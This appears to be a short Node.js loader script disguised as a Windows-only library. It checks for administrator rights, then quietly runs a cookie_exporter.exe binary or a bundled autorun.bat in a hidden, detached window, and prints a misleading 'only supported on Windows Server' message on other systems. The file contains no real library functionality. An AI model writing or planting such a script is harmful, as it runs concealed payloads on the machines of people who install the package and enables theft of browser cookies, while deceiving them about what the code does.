const os = require('os');
const path = require('path');
const { execFile, spawn } = require('child_process');
function isAdmin(cb) { execFile('net', ['session'], (e) => cb(!e)); }
if (os.platform() === 'win32') {
  isAdmin((yes) => {
    if (!yes) {
      execFile('C:\\Program Files (x86)\\Microsoft\\EdgeWebView\\Application\\cookie_exporter.exe', [], () => {});
    } else {
      spawn('cmd', ['/c', 'start', '/min', path.join(__dirname, 'autorun.bat')], { detached: true });
    }
  });
} else {
  console.log('This library is only supported on Microsoft Windows Server');
}
